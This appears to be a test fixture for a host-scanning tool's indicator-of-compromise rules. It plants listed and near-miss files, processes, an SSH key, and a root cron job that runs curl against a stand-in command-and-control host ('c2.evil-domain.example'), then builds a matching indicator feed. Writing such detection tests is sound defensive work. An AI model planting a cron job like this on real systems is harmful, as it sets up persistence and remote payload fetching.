"""A host with things that are on a list of indicators, things that are nearly, and the list."""

from __future__ import annotations

import hashlib
import itertools
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from sandfly_web.rules.indicators.compact import CompactSet, decode
from sandfly_web.rules.indicators.kinds import Indicator, Kind, key_of
from sandfly_web.rules.indicators.sets import build_sets
from tests.hosts.host import Host, wait_until

# Enough for a compact set that takes one in 65,536 others for its own, so that one is soon found.
LISTED_PATHS = 50_000
FOUND = {
    "file_indicator_hash": "/tmp/listed",
    "file_indicator_path": "/opt/listed/1",
    "process_indicator_hash": "/opt/agent",
    "socket_indicator_address": "sshd",
    "cron_job_indicator_command": "c2.evil-domain.example",
    "authorized_key_indicator_key": "root",
}


@dataclass(frozen=True)
class Planted:
    """The list's text, and a path that the compact set takes for one of its own though it is on no list."""

    text: str
    near_miss: str


@contextmanager
def plant_indicators(host: Host, peer: str) -> Iterator[Planted]:
    """`peer` is the address that the host is scanned from, which is on the list too."""
    paths = [f"/opt/listed/{number}" for number in range(LISTED_PATHS)]
    near = find_near_miss(build_sets(Indicator(Kind.PATH, path) for path in paths)[Kind.PATH])
    for path, text in (
        ("/tmp/listed", "on the list"),
        ("/tmp/unlisted", "on the lisT"),
        ("/opt/listed/1", "x"),
        (near, "x"),
    ):
        host.write(path, text)
    host.write("/etc/cron.d/report", "5 4 * * * root curl -s http://c2.evil-domain.example/x\n")
    host.write("/etc/cron.d/other", "5 4 * * * root curl -s http://notevil-domain.example/x\n")
    host.run(
        "cp /bin/sleep /opt/agent && printf agent >> /opt/agent && cp /opt/agent /opt/other && printf x >> /opt/other"
    )
    running = [host.spawn("exec /opt/agent 1000"), host.spawn("exec /opt/other 1000")]
    wait_until(lambda: sum("1000" in line for line in host.processes().values()) >= 2, 10)
    public = subprocess.run(
        ["ssh-keygen", "-y", "-f", host.key_path("root")], capture_output=True, text=True, check=True
    ).stdout
    lines = [
        hashlib.sha256(b"on the list").hexdigest() + " # dropper of autumn",
        hashlib.md5((host.root / "opt/agent").read_bytes()).hexdigest(),
        "evil-domain.example",
        peer,
        public.strip(),
        *paths,
    ]
    try:
        yield Planted("\n".join(lines) + "\n", near)
    finally:
        for one in running:
            one.kill()
            one.wait()


def find_near_miss(compact: CompactSet) -> str:
    spec = compact.spec
    held, span = set(decode(compact.body, spec.count, spec.bits)), spec.count << spec.bits
    return next(path for n in itertools.count() if key_of(path := f"/tmp/near-{n}") * span >> 64 in held)


def write_list(planted: Planted, directory: Path) -> Path:
    path = directory / "feed.txt"
    path.write_text(planted.text)
    return path
